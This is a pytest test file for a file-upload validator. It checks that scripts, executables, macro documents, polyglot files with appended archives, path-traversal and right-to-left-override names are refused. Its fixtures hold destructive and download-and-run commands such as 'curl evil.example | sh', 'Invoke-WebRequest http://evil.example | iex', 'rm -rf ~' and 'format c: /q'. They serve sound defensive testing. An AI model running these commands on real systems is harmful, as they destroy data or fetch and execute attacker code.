"""What an uploaded file's bytes say it is, and the name kept for it."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile

import pytest

from domain.errors import InvalidValue
from storage.files import MAX_ZIP_DIRECTORY_BYTES, clean_file_name, content_type, stored_name
from tests.factories import DOCX, JAR, ODS, ODT, PPTX, XLSX, archive, odf, ooxml

IEND = b"\x00\x00\x00\x00IEND\xaeB`\x82"


def sniff(content: bytes, name: str = "arquivo") -> str:
    return content_type(io.BytesIO(content), file_name=name)


def refusal(content: bytes, name: str = "arquivo.docx") -> str:
    with pytest.raises(InvalidValue) as refused:
        sniff(content, name)
    assert refused.value.field == "file"
    return refused.value.message


@pytest.mark.parametrize(
    ("head", "name", "expected"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n%%EOF\n", "a.bin", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + IEND, "scan.pdf", "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\xff\xd9", "foto.jpg", "image/jpeg"),
        ("Procuração ad judicia\n".encode(), "nota.txt", "text/plain"),
        ("# Notas da audiência\n".encode(), "notas.md", "text/plain"),
    ],
)
def test_the_type_comes_from_the_bytes(head: bytes, name: str, expected: str) -> None:
    assert sniff(head, name) == expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (ooxml("word/document.xml"), DOCX),
        (ooxml("xl/workbook.xml"), XLSX),
        (ooxml("ppt/presentation.xml"), PPTX),
        (odf(ODT), ODT),
        (odf(ODS), ODS),
    ],
)
def test_office_files_are_told_by_what_their_archive_holds(content: bytes, expected: str) -> None:
    # whatever the name says
    assert sniff(content, "arquivo.zip") == expected


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (
            archive(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("a/Main.class", "")),
            "a Java archive (JAR)",
        ),
        (
            # office parts do not make a JAR acceptable
            archive(
                ("[Content_Types].xml", "<Types/>"), ("word/document.xml", ""), ("A.class", "")
            ),
            "a Java archive (JAR)",
        ),
        (archive(("peticao.pdf", "%PDF-1.7")), "a ZIP archive that is not an Office"),
        (archive(("[Content_Types].xml", "<Types/>"), ("run.sh", "")), "a ZIP archive that is"),
        (archive(("word/document.xml", "<w:document/>")), "a ZIP archive that is not"),
        (archive(), "a ZIP archive that is not an Office"),
        (archive(("mimetype", "application/epub+zip")), "an OpenDocument or ZIP file of type"),
        (archive(("mimetype", ODT)), "an OpenDocument or ZIP file of type " + ODT),
        (
            archive(("[Content_Types].xml", "<Types/>"), ("word/vbaProject.bin", "")),
            "an Office document with macros",
        ),
    ],
)
def test_other_archives_are_refused_saying_what_they_are(content: bytes, kind: str) -> None:
    assert refusal(content).startswith(f"Files of this kind are not accepted: {kind}")


def test_an_odf_whose_mimetype_is_compressed_is_not_taken_for_one() -> None:
    deflated = io.BytesIO()
    with zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("mimetype", ODT)
        written.writestr("META-INF/manifest.xml", "")
    assert "not an Office" in refusal(deflated.getvalue())


DAMAGED = "The file is a damaged ZIP archive (or an Office file) that cannot be read."


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\x00" * 100,  # a local header and nothing after it
        ooxml("word/document.xml")[:-30],  # cut short: no end record
        odf(ODT).replace(ODT.encode(), b"x" * len(ODT), 1),  # the mimetype's checksum fails
    ],
)
def test_a_damaged_archive_is_refused(content: bytes) -> None:
    assert refusal(content) == DAMAGED


def test_an_encrypted_archive_is_refused() -> None:
    content = bytearray(odf(ODT))
    # set the "encrypted" flag (general purpose bit 0) in every central directory entry
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 0x1
        at = content.find(b"PK\x01\x02", at + 1)
    assert (
        refusal(bytes(content)) == "Files of this kind are not accepted: an encrypted ZIP archive."
    )


def test_an_archive_listing_too_many_files_is_refused_before_it_is_read() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as written:
        written.writestr("[Content_Types].xml", "<Types/>")
        for n in range(MAX_ZIP_DIRECTORY_BYTES // 40):
            written.writestr(f"word/{n}", "")
    message = refusal(buffer.getvalue())
    assert message == "Files of this kind are not accepted: a ZIP archive listing too many files."


def with_zip64_end(content: bytes, *, directory_size: int | None = None) -> bytes:
    """``content`` with ZIP64 end records before its end record, as large archives have."""
    end = content.rfind(b"PK\x05\x06")
    *_, entries, size, offset, _ = struct.unpack_from("<4s4H2LH", content, end)
    claimed = size if directory_size is None else directory_size
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, claimed, offset
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    return content[:end] + record + locator + content[end:]


def test_the_zip64_end_record_is_the_one_that_counts() -> None:
    assert sniff(with_zip64_end(ooxml("word/document.xml"))) == DOCX
    huge = with_zip64_end(ooxml("word/document.xml"), directory_size=1 << 40)
    assert (
        refusal(huge)
        == "Files of this kind are not accepted: a ZIP archive listing too many files."
    )


@pytest.mark.parametrize(
    "script",
    [b"#!/bin/sh\nrm -rf ~\n", b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", b"#!"],
)
def test_scripts_are_refused_even_as_text(script: bytes) -> None:
    assert refusal(script, "leia-me.txt") == "Scripts are not accepted: the file starts with “#!”."


@pytest.mark.parametrize(
    "head",
    [
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 60,  # a Linux program
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60,  # a Windows program
        b"\x00\x01\x02\x03\xfe\xff binary",
    ],
)
def test_programs_and_unknown_binaries_are_refused(head: bytes) -> None:
    refusal(head, "contrato.pdf")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("  Petição inicial.pdf ", "Petição inicial.pdf"),
        ("", "documento"),
        (None, "documento"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ],
)
def test_names_are_normalised(given: str | None, kept: str) -> None:
    assert clean_file_name(given) == kept


@pytest.mark.parametrize("name", ["../x.pdf", "a/b.pdf", "a\\b.pdf", ".."])
def test_paths_are_refused(name: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name(name)
    assert refused.value.field == "file"
    assert refused.value.message.startswith("The file name must not be a path: ")


@pytest.mark.parametrize(
    ("name", "described"),
    [
        ("a\u202egpj.exe", "U+202E, RIGHT-TO-LEFT OVERRIDE"),  # shown as "aexe.jpg"
        ("contrato\u2067fdp.exe", "U+2067, RIGHT-TO-LEFT ISOLATE"),
        ("a\u200fb.pdf", "U+200F, RIGHT-TO-LEFT MARK"),
        ("a\u200bb.pdf", "U+200B, ZERO WIDTH SPACE"),
        ("\ufeffa.pdf", "U+FEFF, ZERO WIDTH NO-BREAK SPACE"),
        ("a\u2028b.pdf", "U+2028, LINE SEPARATOR"),
        ("a\x00b.pdf", "U+0000, a control character"),
        ("a\x1bb", "U+001B, a control character"),
        ("a\x85b.pdf", "U+0085, a control character"),
    ],
)
def test_invisible_and_reordering_characters_are_refused(name: str, described: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name(name)
    assert refused.value.field == "file"
    assert refused.value.message == (
        f"The file name has an invisible control or formatting character ({described}), "
        "which can disguise what is shown; remove it."
    )


def test_reserved_characters_are_refused() -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name("a?b.pdf")
    assert refused.value.message == 'The file name has reserved characters (< > : " | ? *).'


# --- the name's extension agrees with the bytes ---------------------------------------


@pytest.mark.parametrize(
    ("name", "media_type"),
    [
        ("peticao.pdf", "application/pdf"),
        ("PETICAO.PDF", "application/pdf"),
        ("foto.jpeg", "image/jpeg"),
        ("foto.JPG", "image/jpeg"),
        ("scan.tif", "image/tiff"),
        ("custas.csv", "text/plain"),
        ("notas.md", "text/plain"),
        ("minuta.docx", DOCX),
        ("planilha.ods", ODS),
    ],
)
def test_a_name_whose_extension_fits_the_bytes_is_kept(name: str, media_type: str) -> None:
    assert stored_name(name, media_type) == name


@pytest.mark.parametrize(
    ("name", "media_type", "kept"),
    [
        ("contrato", "application/pdf", "contrato.pdf"),
        ("documento", "image/jpeg", "documento.jpg"),
        ("ata", "text/plain", "ata.txt"),
        ("x" * 200, DOCX, "x" * 195 + ".docx"),
    ],
)
def test_a_name_without_extension_gets_the_types_own(name: str, media_type: str, kept: str) -> None:
    assert stored_name(name, media_type) == kept


@pytest.mark.parametrize(
    ("name", "media_type", "message"),
    [
        (
            "a.exe",
            "application/pdf",
            "The file's name ends in .exe but its content is a PDF; name it with .pdf.",
        ),
        (
            "foto.png",
            "image/jpeg",
            "The file's name ends in .png but its content is a JPEG image; "
            "name it with .jpg or .jpeg.",
        ),
        (
            "minuta.doc",
            DOCX,
            "The file's name ends in .doc but its content is a Word document; name it with .docx.",
        ),
        (
            "planilha.zip",
            XLSX,
            "The file's name ends in .zip but its content is an Excel spreadsheet; "
            "name it with .xlsx.",
        ),
    ],
)
def test_a_name_whose_extension_contradicts_the_bytes_is_refused(
    name: str, media_type: str, message: str
) -> None:
    with pytest.raises(InvalidValue) as refused:
        stored_name(name, media_type)
    assert (refused.value.field, refused.value.message) == ("file", message)


SCRIPTS = [
    ("limpa.cmd", b"@echo off\r\ndel /q C:\\*\r\n"),
    ("limpa.bat", b"@echo off\r\nformat c: /q\r\n"),
    ("abre.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n'),
    ("pagina.hta", b"<script>new ActiveXObject('WScript.Shell')</script>\n"),
    ("tarefa.wsf", b'<job><script language="JScript">WScript.Echo(1)</script></job>\n'),
    ("abre.js", b"require('child_process').exec('calc')\n"),
    ("roda.ps1", b"Invoke-WebRequest http://evil.example | iex\n"),
    ("abre.command", b"open -a Calculator\n"),
    ("atalho.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c evil\n"),
    ("tela.scr", b"rundll32 something\n"),
    ("run.sh", b"curl evil.example | sh\n"),
]


@pytest.mark.parametrize(("name", "content"), SCRIPTS, ids=[name for name, _ in SCRIPTS])
def test_a_script_read_as_plain_text_is_refused_by_its_name(name: str, content: bytes) -> None:
    media_type = sniff(content, name)
    assert media_type == "text/plain"

    with pytest.raises(InvalidValue) as refused:
        stored_name(clean_file_name(name), media_type)

    extension = name[name.rindex(".") :]
    assert refused.value.message == (
        f"The file's name ends in {extension} but its content is plain text; "
        "name it with .txt, .csv, .tsv, .md or .log."
    )


def test_a_trailing_dot_does_not_hide_the_extension() -> None:
    assert clean_file_name("a.exe. ") == "a.exe"


# --- an archive carried inside another file -------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + IEND
PDF = b"%PDF-1.7\n" + b"1 0 obj << >> endobj\n" * 50 + b"%%EOF\n"
CARRIES = "The file carries an archive inside: a ZIP (or JAR) is appended to its content."


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PDF + JAR, "peticao.pdf"),
        (PNG + JAR, "foto.png"),
        (PDF + JAR + b"\x00" * (0xFFFF - 100), "peticao.pdf"),  # the ZIP's comment at its longest
        ("Ata da reunião\n".encode() + JAR, "ata.txt"),
    ],
    ids=["pdf", "png", "far-from-the-end", "text"],
)
def test_a_file_with_an_archive_appended_is_refused(content: bytes, name: str) -> None:
    assert refusal(content, name) == CARRIES


def test_an_archive_beyond_the_last_64_kib_is_data_after_the_end() -> None:
    # A ZIP reader (java -jar too) finds the end record only within the tail; 7-Zip
    # looks further, and the PDF's end says where the payload starts.
    padding = b"\n" * 70_000
    assert refusal(PDF + JAR + padding, "peticao.pdf") == (
        # the PDF's own newline after %%EOF counts too
        f"The file has data after its end ({1 + len(JAR) + len(padding)} bytes): "
        "a PDF ends with its last “%%EOF”."
    )


# --- data after the end a format marks ------------------------------------------------

RAR5 = b"Rar!\x1a\x07\x01\x00" + bytes(range(40)) + b"\x1dwQ\x03\x05\x04\x00"
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(24))
GZIP = gzip.compress(b"#!/bin/sh\ncurl evil.example | sh\n", mtime=0)
# A ZIP's local entries without its central directory, as a streaming unzipper reads them.
ZIP_ENTRIES = JAR[: JAR.find(b"PK\x01\x02")]
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;"
WEBP = b"RIFF\x0c\x00\x00\x00WEBPVP8 \x00\x00\x00\x00"
RTF = b"{\\rtf1\\ansi Procura\\'e7\\'e3o\\par}"


def after_end(n: int, kind: str, marker: str) -> str:
    return f"The file has data after its end ({n} bytes): {kind} ends with {marker}."


PDF_END = ("a PDF", "its last “%%EOF”")


@pytest.mark.parametrize(
    ("content", "name", "payload", "kind", "marker"),
    [
        (PDF, "peticao.pdf", RAR5, *PDF_END),
        (PDF, "peticao.pdf", SEVEN_ZIP, *PDF_END),
        (PDF, "peticao.pdf", GZIP, *PDF_END),
        (PDF, "peticao.pdf", ZIP_ENTRIES, *PDF_END),
        (PDF, "peticao.pdf", b"\n" * 1025, *PDF_END),  # more padding than is allowed
        (PNG, "foto.png", RAR5, "a PNG image", "its IEND chunk"),
        (PNG, "foto.png", SEVEN_ZIP + IEND, "a PNG image", "its IEND chunk"),  # the first counts
        (GIF, "foto.gif", GZIP[:10], "a GIF image", "the byte 3B"),
        (WEBP, "foto.webp", RAR5, "a WebP image", "where its RIFF header says"),
        (RTF, "carta.rtf", RAR5, "an RTF document", "“}”"),
    ],
    ids=[
        "pdf-rar",
        "pdf-7z",
        "pdf-gzip",
        "pdf-zip-entries",
        "pdf-padding",
        "png-rar",
        "png-second-iend",
        "gif-gzip",
        "webp-rar",
        "rtf-rar",
    ],
)
def test_data_after_the_formats_end_is_refused(
    content: bytes, name: str, payload: bytes, kind: str, marker: str
) -> None:
    sniff(content, name)  # without the payload, the file is accepted
    n = len(payload) + (content == PDF)  # the PDF's newline after %%EOF counts too
    assert refusal(content + payload, name) == after_end(n, kind, marker)


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (PDF + b"\r\n\x00 \t" + b"\n" * 1000, "peticao.pdf", "application/pdf"),
        # an incremental update: a section appended after the first %%EOF, with its own
        (PDF + b"2 0 obj << >> endobj\nstartxref\n9\n%%EOF\r\n", "peticao.pdf", "application/pdf"),
        (PNG, "foto.png", "image/png"),
        (JPEG + b"\xff\xd8" + JPEG[2:], "foto.jpg", "image/jpeg"),  # a second picture (MPF)
        (JPEG + b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 2000, "foto.jpg", "image/jpeg"),
        (GIF, "foto.gif", "image/gif"),
        (WEBP, "foto.webp", "image/webp"),
        (RTF + b"\r\n\x00", "carta.rtf", "application/rtf"),
        (b"II*\x00\x08\x00\x00\x00" + b"\x00" * 20 + RAR5, "scan.tif", "image/tiff"),
    ],
    ids=[
        "pdf-padding",
        "pdf-update",
        "png",
        "jpeg-two",
        "jpeg-motion",
        "gif",
        "webp",
        "rtf",
        "tiff",
    ],
)
def test_a_file_ending_where_its_format_says_is_accepted(
    content: bytes, name: str, expected: str
) -> None:
    # A TIFF has no end marker: its directories are found by offsets, so it is not checked.
    assert sniff(content, name) == expected


@pytest.mark.parametrize(
    ("content", "name", "kind", "marker"),
    [
        (b"%PDF-1.7\n" + RAR5, "peticao.pdf", *PDF_END),
        (PNG[:-12] + RAR5, "foto.png", "a PNG image", "its IEND chunk"),
        (WEBP[:-2], "foto.webp", "a WebP image", "where its RIFF header says"),
    ],
    ids=["pdf", "png", "webp"],
)
def test_a_file_without_its_end_is_refused(
    content: bytes, name: str, kind: str, marker: str
) -> None:
    assert refusal(content, name) == (
        f"The file is incomplete: {kind} ends with {marker}, and it has none."
    )


def test_text_is_text_throughout() -> None:
    text = "Ata da reunião\n".encode() * 1000
    assert sniff(text, "ata.txt") == "text/plain"
    assert refusal(text + RAR5, "ata.txt") == (
        f"The file starts as plain text but has binary data from byte {len(text) + 7} on."
    )


# --- macros, whatever their part is called --------------------------------------------

MACRO_TYPES = [
    '<Override PartName="/word/m.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    '<Override PartName="/word/d.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
    '<Override PartName="/word/c/c1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
]


@pytest.mark.parametrize("declared", MACRO_TYPES, ids=["vba", "default", "main", "data", "activex"])
def test_an_office_file_declaring_a_macro_type_is_refused(declared: str) -> None:
    content = archive(
        ("[Content_Types].xml", f"<Types>{declared}</Types>"),
        ("word/document.xml", "<w:document/>"),
        ("word/m.bin", "\xd0\xcf\x11\xe0"),
    )
    assert (
        refusal(content) == "Files of this kind are not accepted: an Office document with macros."
    )


def test_a_list_of_content_types_too_long_to_read_is_refused() -> None:
    content = archive(
        ("[Content_Types].xml", "<Types>" + " " * (1 << 20) + "</Types>"),
        ("word/document.xml", "<w:document/>"),
    )
    assert refusal(content) == (
        "Files of this kind are not accepted: "
        "an Office document whose list of content types is too long."
    )


@pytest.mark.parametrize("member", ["Basic/Standard/Module1.xml", "Scripts/python/run.py"])
def test_an_opendocument_file_with_macros_is_refused(member: str) -> None:
    content = archive(
        ("mimetype", ODT),
        ("content.xml", "<office:document-content/>"),
        (member, "<script:module/>"),
        ("META-INF/manifest.xml", "<manifest:manifest/>"),
    )
    assert refusal(content, "parecer.odt") == (
        "Files of this kind are not accepted: an OpenDocument file with macros."
    )


# --- names Windows keeps for devices --------------------------------------------------


@pytest.mark.parametrize(
    ("name", "device"),
    [
        ("CON.pdf", "CON"),
        ("con", "CON"),
        ("Prn.tar.gz", "PRN"),
        ("aux .txt", "AUX"),
        ("NUL.docx", "NUL"),
        ("com1.pdf", "COM1"),
        ("LPT9.jpg", "LPT9"),
    ],
)
def test_windows_device_names_are_refused(name: str, device: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name(name)
    assert (refused.value.field, refused.value.message) == (
        "file",
        f"The file name starts with {device}, which Windows keeps for a device; rename it.",
    )


@pytest.mark.parametrize("name", ["console.pdf", "contrato.pdf", "COM10.pdf", "nulidade.docx"])
def test_names_that_only_start_like_a_device_are_kept(name: str) -> None:
    assert clean_file_name(name) == name
